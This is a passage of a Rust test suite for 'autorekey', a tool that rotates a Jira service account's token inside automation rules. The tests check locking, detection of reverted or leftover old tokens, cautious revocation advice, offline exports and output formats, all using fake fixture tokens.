    panic!("the copied binary stayed busy (open for writing) for 2 s");
}

/// The lock holds whatever the binary is called (a copy named otherwise counted as no
/// autorekey before), and a holder killed with SIGKILL leaves nothing that blocks.
#[test]
fn a_renamed_binary_holds_the_lock_and_killing_it_frees_the_site() {
    let (site, before, new, backups) = slow_site();
    let renamed = site.dir.path().join("rk");
    std::fs::copy(assert_cmd::cargo::cargo_bin("autorekey"), &renamed).expect("copy the binary");
    let original = first_writer(&site, &new, &backups);
    let mut holder = std::process::Command::new(&renamed);
    holder
        .env_clear()
        .args(original.get_args())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    for (name, value) in original.get_envs() {
        if let Some(value) = value {
            holder.env(name, value);
        }
    }
    let mut holder = spawn_fresh_copy(&mut holder);
    wait_for_first_write(&backups);

    let second = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    second.expect_code(1).expect_error_with_hint();
    assert!(second
        .stderr
        .contains("another autorekey run is writing to"));

    holder.kill().expect("SIGKILL the holder");
    holder.wait().expect("reap the holder");
    let after = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    after.expect_code(0);
    assert!(!after.stderr.contains("lock"), "{}", after.stderr);
    Expected::rotation(&before, SVC_JIRA, &new).assert_site(&site);
}

#[test]
fn a_rule_overwritten_after_its_read_back_is_reported_not_counted_as_rotated() {
    let mut reverted = String::new();
    let (planted, site) = copies_site(3, |c| {
        reverted = c.rules[0]["rule"]["uuid"]
            .as_str()
            .expect("a uuid")
            .to_owned();
        // Read 1 lists it, 2 re-reads it before the write, 3 reads the write back; then
        // another writer saves its stale copy over it.
        c.trap_revert_after_reads.insert(reverted.clone(), 3);
    });
    let new = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let backups = site.dir.path().join("backups");
    let out = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    out.expect_code(3);
    assert_eq!(summary_count(&out.stdout, "rotated"), 2);
    assert_eq!(summary_count(&out.stdout, "needs attention"), 1);
    assert!(out.stdout.contains(&format!("({reverted})")));
    assert!(out
        .stdout
        .contains("the final check at the end of the run found"));
    assert!(out.stdout.contains("Do NOT revoke the old token yet"));
    let steps = steps_by_rule(&journal_of(&only_run_dir(&backups)));
    assert_eq!(steps[&reverted], ["writing", "verified", "attention"]);
    let rotated: BTreeSet<String> = steps.keys().filter(|u| **u != reverted).cloned().collect();
    assert_eq!(rotated.len(), 2);
}

#[test]
fn a_credential_that_cannot_be_read_holds_back_the_advice() {
    // The second rule sends a managed secret as Basic auth to the site: it may be the old
    // token, and autorekey cannot read it.
    let (_, _, out) = rotated_beside(&["Basic {{secrets.jira}}"]);
    out.expect_code(3);
    assert_eq!(summary_count(&out.stdout, "rotated"), 1);
    assert!(out.stdout.contains(
        "Do NOT revoke the old token yet: 1 rule sends a credential autorekey cannot read"
    ));
    assert!(!out.stdout.contains("revoke the old token ("));
}

#[test]
fn an_offline_export_keeps_the_old_token_until_it_is_imported() {
    let rule = fixture_01();
    let export = serde_json::json!({
        "rules": copies_of(&rule, 2).into_iter().map(|e| e["rule"].clone()).collect::<Vec<_>>()
    });
    let planted = common::Planted::new(vec![export]);
    let (old, new) = old_and_new(&planted);
    let dir = tempfile::tempdir().expect("a temp dir");
    let input = dir.path().join("export.json");
    std::fs::write(&input, planted.rules[0].to_string()).expect("write the export");
    let offline = |token: &str, target: &str| {
        let mut cmd = common::autorekey();
        cmd.env("AUTOREKEY_NEW_TOKEN", token)
            .env("AUTOREKEY_OLD_TOKEN", &old)
            .args(["rotate", "--account", SVC_JIRA, "--yes", "--from-file"])
            .arg(&input)
            .arg("--write")
            .arg(dir.path().join(target));
        common::run_checked(cmd, &planted.secrets())
    };
    let out = offline(&new, "rotated.json");
    out.expect_code(0);
    assert_eq!(summary_count(&out.stdout, "rotated"), 2);
    assert!(out
        .stdout
        .contains("Do NOT revoke the old token before that: the rules on the site still use it."));
    assert!(out.stdout.contains(&format!(
        "Keep the old {} and the new {}; revoke nothing yet.",
        fp(&old),
        fp(&new)
    )));
    // The old token given as the new one: refused, nothing written.
    let refused = offline(&old, "again.json");
    refused.expect_code(2).expect_error_with_hint();
    assert!(!dir.path().join("again.json").exists());
}

/// A rotation of two copies of fixture 01 that the first run cannot finish: the second
/// rule also sends svc-jira's old token as a Bearer header, so it is left alone (no half
/// rotations) and the old token is kept. With `relay`, the first rule also sends svc-jira's
/// credential to a host that is not Atlassian's, where it shows a keyed fingerprint.
struct Unfinished {
    planted: common::Planted,
    site: TestSite,
    backups: std::path::PathBuf,
    /// The left-alone rule and the pointer of its header list.
    uuid: String,
    headers: String,
}

impl Unfinished {
    fn start(relay: bool) -> Unfinished {
        let mut rules = copies_of(&fixture_01(), 2);
        if relay {
            to_relay(&mut rules[0]["rule"], None);
        }
        let pointer = svc_jira_pointer(&rules[1]["rule"]);
        let headers = pointer
            .rsplitn(3, '/')
            .nth(2)
            .expect("the header list's pointer")
            .to_owned();
        rules[1]["rule"]
            .pointer_mut(&headers)
            .and_then(serde_json::Value::as_array_mut)
            .expect("a header list")
            .push(serde_json::json!({"name": "X-Fallback", "value": format!("Bearer {SVC_JIRA_OLD_FIXTURE}")}));
        let planted = common::Planted::new(rules);
        let site = planted.site_spec().start();
        let uuid = planted.rules[1]["rule"]["uuid"]
            .as_str()
            .expect("a uuid")
            .to_owned();
        let backups = site.dir.path().join("backups");
        let run = Unfinished {
            planted,
            site,
            backups,
            uuid,
            headers,
        };
        let first = run.rotate();
        first.expect_code(3);
        assert_eq!(summary_count(&first.stdout, "left alone"), 1);
        assert!(first.stdout.contains("Do NOT revoke the old token yet"));
        run
    }

    fn rotate(&self) -> RunOutput {
        let new = self.planted.fresh(SVC_JIRA_NEW_FIXTURE);
        self.site.run_cmd(rotate_cmd(
            &self.site,
            SVC_JIRA,
            &new,
            &self.backups,
            &["--yes"],
        ))
    }

    /// The admin fixes the left-alone rule by hand: drops the Bearer header, puts in the
    /// new token, then `more` edits it further.
    fn fix_by_hand(&self, more: impl FnOnce(&mut serde_json::Value)) {
        let token = Token::new(self.planted.fresh(SVC_JIRA_NEW_FIXTURE));
        self.site.state().edit_rule(&self.uuid, |e| {
            e["rule"]
                .pointer_mut(&self.headers)
                .and_then(serde_json::Value::as_array_mut)
                .expect("a header list")
                .pop();
            e["rule"] = rewrite_for(&e["rule"], SVC_JIRA, &token).expect("a rewrite");
            more(&mut e["rule"]);
        });
    }
}

/// Adds a copy of the rule's first component (svc-jira's Basic header, sent to the site)
/// that sends the request to a host that is not Atlassian's, with `authorization` as its
/// header if given: a credential there shows a keyed fingerprint.
fn to_relay(rule: &mut serde_json::Value, authorization: Option<String>) {
    let mut copy = rule["components"][0].clone();
    copy["id"] = serde_json::json!("71823499");
    copy["value"]["url"] = serde_json::json!("https://relay.example.com/hook");
    if let Some(value) = authorization {
        copy["value"]["headers"][0]["value"] = serde_json::json!(value);
    }
    rule["components"]
        .as_array_mut()
        .expect("a component list")
        .push(copy);
}

/// svc-jira's Basic header value for `token`.
fn svc_jira_basic(token: &str) -> String {
    let credential = autorekey::secret::Credential::new(SVC_JIRA, Token::new(token));
    format!("Basic {}", credential.basic_value())
}

#[test]
fn a_rerun_after_the_leftovers_were_fixed_by_hand_names_the_old_token() {
    let run = Unfinished::start(false);
    let (old, new) = old_and_new(&run.planted);
    run.fix_by_hand(|_| {});
    // The rerun carries on the same rotation: it knows which token it replaced.
    let again = run.rotate();
    again.expect_code(0);
    assert_eq!(summary_count(&again.stdout, "already current"), 2);
    assert!(again.stdout.contains(&revoke_line(&old, &new)));
    assert_eq!(run_dirs(&run.backups).len(), 1);
}

#[test]
fn tokens_shown_keyed_outside_atlassian_are_named_once_and_the_new_one_is_not_old() {
    // The old token went to the site and to a relay (keyed there); the hand fix also
    // sends the new token to the relay.
    let run = Unfinished::start(true);
    let (old, new) = old_and_new(&run.planted);
    run.fix_by_hand(|rule| to_relay(rule, Some(svc_jira_basic(&new))));
    let again = run.rotate();
    again.expect_code(0);
    assert_eq!(summary_count(&again.stdout, "already current"), 2);
    assert!(
        again.stdout.contains(&revoke_line(&old, &new)),
        "the old token named once, plain:\n{}",
        again.stdout
    );
    assert!(again
        .stdout
        .contains(&format!("revoke the old token ({})", fp(&old))));
    let advice = &again.stdout[again.stdout.find("Next steps:").expect("next steps")..];
    assert!(
        !advice.contains("k:"),
        "no keyed form in the advice:\n{advice}"
    );
}

#[test]
fn an_old_token_left_only_where_it_shows_keyed_holds_back_the_advice() {
    let run = Unfinished::start(true);
    let (old, new) = old_and_new(&run.planted);
    // The hand fix moves the old token to a relay instead of dropping it.
    run.fix_by_hand(|rule| to_relay(rule, Some(format!("Bearer {old}"))));
    let again = run.rotate();
    assert!(
        again.stdout.contains(&format!(
            "Keep the old {} and the new {}; revoke nothing yet.",
            fp(&old),
            fp(&new)
        )),
        "a rule still sends the old token:\n{}",
        again.stdout
    );
    assert!(again.stdout.contains("Do NOT revoke the old token yet"));
    assert_eq!(summary_count(&again.stdout, "left alone"), 1);
    again.expect_code(3);
}

#[test]
fn a_rerun_never_names_an_old_token_a_rule_still_holds_in_another_form() {
    let mut rules = copies_of(&fixture_01(), 2);
    // The second rule also sends the old token as a Bearer header.
    let pointer = svc_jira_pointer(&rules[1]["rule"]);
    let headers = pointer
        .rsplitn(3, '/')
        .nth(2)
        .expect("the header list's pointer")
        .to_owned();
    rules[1]["rule"]
        .pointer_mut(&headers)
        .and_then(serde_json::Value::as_array_mut)
        .expect("a header list")
        .push(serde_json::json!({"name": "X-Fallback", "value": format!("Bearer {SVC_JIRA_OLD_FIXTURE}")}));
    let planted = common::Planted::new(rules);
    let site = planted.site_spec().start();
    let (old, new) = old_and_new(&planted);
    let backups = site.dir.path().join("backups");
    let rotate = || site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    rotate().expect_code(3);

    // The admin puts the new token in the Basic header by hand but forgets the Bearer one.
    let uuid = planted.rules[1]["rule"]["uuid"]
        .as_str()
        .expect("a uuid")
        .to_owned();
    let basic = autorekey::secret::Credential::new(SVC_JIRA, Token::new(new.clone())).basic_value();
    site.state().edit_rule(&uuid, |e| {
        *e["rule"].pointer_mut(&pointer).expect("the Basic header") =
            serde_json::json!(format!("Basic {basic}"));
    });
    let again = rotate();
    again.expect_code(3);
    assert!(
        !again.stdout.contains(&revoke_line(&old, &new)),
        "{}",
        again.stdout
    );
    assert!(
        again.stdout.contains("Do NOT revoke the old token yet"),
        "{}",
        again.stdout
    );
    assert!(
        again.stdout.contains("X-Fallback") || again.stdout.contains("does not rewrite"),
        "{}",
        again.stdout
    );
}

#[test]
fn fingerprint_selects_one_of_two_old_tokens_and_only_it_is_named() {
    let (planted, site) = copies_site(2, |_| {});
    let (old, new) = old_and_new(&planted);
    let backups = site.dir.path().join("backups");
    let uuids: Vec<String> = snapshot(&site).keys().cloned().collect();
    let pointer = svc_jira_pointer(&planted.rules[0]["rule"]);
    let other = format!("FAKE-other-{}", uuid::Uuid::new_v4().simple());
    let basic =
        autorekey::secret::Credential::new(SVC_JIRA, Token::new(other.clone())).basic_value();
    site.state().edit_rule(&uuids[1], |e| {
        *e["rule"].pointer_mut(&pointer).expect("the header") =
            serde_json::json!(format!("Basic {basic}"));
    });
    let out = site.run_cmd(rotate_cmd(
        &site,
        SVC_JIRA,
        &new,
        &backups,
        &["--yes", "--fingerprint", &fp(&old)],
    ));
    out.expect_code(0);
    assert_eq!(summary_count(&out.stdout, "rotated"), 1);
    assert!(
        out.stdout.contains(&revoke_line(&old, &new)),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains(&fp(&other)[..12]), "{}", out.stdout);
    // The other old token is still there: the rule that holds it was not touched.
    let still = site.state().rule(&uuids[1]).expect("the rule");
    assert!(autorekey::detect::detect(&still["rule"])
        .iter()
        .any(|f| f.fingerprint().map(|f| f.to_string()) == Some(fp(&other))));
}

#[test]
fn a_rerun_with_every_rule_current_but_one_masked_value_keeps_the_old_token() {
    let (planted, site) = copies_site(2, |_| {});
    let (old, new) = old_and_new(&planted);
    let backups = site.dir.path().join("backups");
    let rotate = || site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--yes"]));
    rotate().expect_code(0);
    let uuids: Vec<String> = snapshot(&site).keys().cloned().collect();
    let pointer = svc_jira_pointer(&planted.rules[0]["rule"]);
    let headers = pointer
        .rsplitn(3, '/')
        .nth(2)
        .expect("the header list")
        .to_owned();
    // A hidden header the site now masks on read: it may hold the old token.
    site.state().edit_rule(&uuids[1], |e| {
        e["rule"]
            .pointer_mut(&headers)
            .and_then(serde_json::Value::as_array_mut)
            .expect("a header list")
            .push(serde_json::json!({"name": "X-Fallback", "value": "***", "headerSecure": true}));
    });
    let again = rotate();
    again.expect_code(3);
    assert_eq!(summary_count(&again.stdout, "already current"), 1);
    assert!(
        !again.stdout.contains(&revoke_line(&old, &new)),
        "{}",
        again.stdout
    );
    assert!(
        again.stdout.contains("Do NOT revoke the old token"),
        "{}",
        again.stdout
    );
}

/// `--format json` is the same verdict as the text, with the same exit status, in every
/// mode a rotation ends in: a dry run, a saved plan, a run that writes (with a rule left
/// alone, and with every rule rotated), and the rerun that finds every rule current.
#[test]
fn the_json_verdict_and_exit_status_agree_with_the_text_in_every_mode() {
    let modes: [(&str, &[&str], bool); 4] = [
        ("dry run", &["--dry-run"], false),
        ("plan saved", &["--out", "PLAN"], false),
        ("written, one left alone", &["--yes"], true),
        ("written", &["--yes"], false),
    ];
    for (mode, args, leave_one) in modes {
        let mut seen = Vec::new();
        for format in ["text", "json"] {
            let (planted, site) = copies_site(2, |_| {});
            if leave_one {
                // A second, Bearer copy of the old token: a rotation would be half done.
                let (old, _) = old_and_new(&planted);
                let uuid = planted.rules[1]["rule"]["uuid"]
                    .as_str()
                    .unwrap()
                    .to_owned();
                site.state().edit_rule(&uuid, |rule| {
                    let headers = &mut rule["rule"]["components"][0]["value"]["headers"];
                    headers.as_array_mut().unwrap().push(serde_json::json!(
                        {"id": "_bearer", "name": "X-Relay", "value": format!("Bearer {old}")}));
                });
            }
            let (old, new) = old_and_new(&planted);
            let backups = site.dir.path().join("backups");
            let plan = site.dir.path().join("plan.json");
            let args: Vec<&str> = args
                .iter()
                .map(|a| {
                    if *a == "PLAN" {
                        plan.to_str().unwrap()
                    } else {
                        a
                    }
                })
                .chain(["--format", format])
                .collect();
            let out = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &args));
            let revokes = match format {
                "json" => {
                    let verdict = out.json()["verdict"].clone();
                    let revoke = verdict["revoke"] == true;
                    let named = verdict["revoke_fingerprints"] == serde_json::json!([fp(&old)]);
                    assert_eq!(revoke, named, "{mode}: {}", out.stdout);
                    revoke
                }
                _ => out.stdout.contains(&revoke_line(&old, &new)),
            };
            seen.push((out.code, revokes));
        }
        assert_eq!(seen[0], seen[1], "{mode}: text and JSON disagree");
        assert_eq!(seen[0].1, mode == "written", "{mode}: {seen:?}");
    }
}

#[test]
fn the_next_steps_follow_the_mode_the_run_was_in() {
    let (planted, site) = copies_site(1, |_| {});
    let new = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let backups = site.dir.path().join("backups");
    let plan = site.dir.path().join("plan.json");
    let saved = site.run_cmd(rotate_cmd(
        &site,
        SVC_JIRA,
        &new,
        &backups,
        &["--out", plan.to_str().unwrap()],
    ));
    saved.expect_code(0);
    // The copy's uuid is made at run time.
    let names: Vec<(String, &str)> = snapshot(&site)
        .into_keys()
        .map(|uuid| (uuid, "[copy uuid]"))
        .collect();
    insta::assert_snapshot!(normalized_naming(&saved.stdout, &names), @r#"
    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets #01" ([copy uuid])
    --- SUP: Post acknowledgement comment as svc-jira on new tickets #01 (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets #01 (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Summary for svc-jira@acme.example (old [fp1] → new [fp2]); 1 rule read:
      to rotate        1

    Old token [fp1] confirmed as svc-jira@acme.example's: it logs in as the account.

    Plan saved to [tmp]/plan.json (no secrets). Nothing was written.
    Carry it out with: autorekey apply [tmp]/plan.json

    Next steps:
      1. Review the diffs above; only the credential text changes.
      2. Carry the plan out with `autorekey apply` (the command above) to write them.
      3. Do NOT revoke the old token: nothing was written, every rule still uses it.
    Keep the old [fp1] and the new [fp2]; revoke nothing yet.
    "#);
    let dry = site.run_cmd(rotate_cmd(&site, SVC_JIRA, &new, &backups, &["--dry-run"]));
    dry.expect_code(0);
    insta::assert_snapshot!(normalized_naming(&dry.stdout, &names), @r#"
    Rule "SUP: Post acknowledgement comment as svc-jira on new tickets #01" ([copy uuid])
    --- SUP: Post acknowledgement comment as svc-jira on new tickets #01 (as read)
    +++ SUP: Post acknowledgement comment as svc-jira on new tickets #01 (rotated)
    @@ -36,5 +36,6 @@
                 "id": "_header_1695919100340",
                 "name": "Authorization",
    -            "value": "Basic <svc-jira@acme.example · [fp1]>"
    +            "value": "Basic <svc-jira@acme.example · [fp2]>",
    +            "headerSecure": true
               },
               {

    Summary for svc-jira@acme.example (old [fp1] → new [fp2]); 1 rule read:
      to rotate        1

    Old token [fp1] confirmed as svc-jira@acme.example's: it logs in as the account.

    Dry run: nothing was written.

    Next steps:
      1. Review the diffs above; only the credential text changes.
      2. Run the same command without --dry-run to write them (or with --out PLAN to save them for `autorekey apply`).
      3. Do NOT revoke the old token: nothing was written, every rule still uses it.
    Keep the old [fp1] and the new [fp2]; revoke nothing yet.
    "#);
}

#[test]
fn a_shared_backup_folder_is_refused_before_any_rule_is_read_with_the_real_cause() {
    let (planted, site) = copies_site(2, |_| {});
    let new = planted.fresh(SVC_JIRA_NEW_FIXTURE);
    let out = site.run_cmd(rotate_cmd(
        &site,
        SVC_JIRA,
        &new,
        Path::new("/tmp"),
        &["--yes"],
    ));
    out.expect_code(2).expect_error_with_hint();
    assert!(
        out.stderr.contains("a folder every user shares"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("a folder of your own"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("chmod"), "{}", out.stderr);
    assert_eq!(site.stats().total_requests, 0, "nothing was read");
}
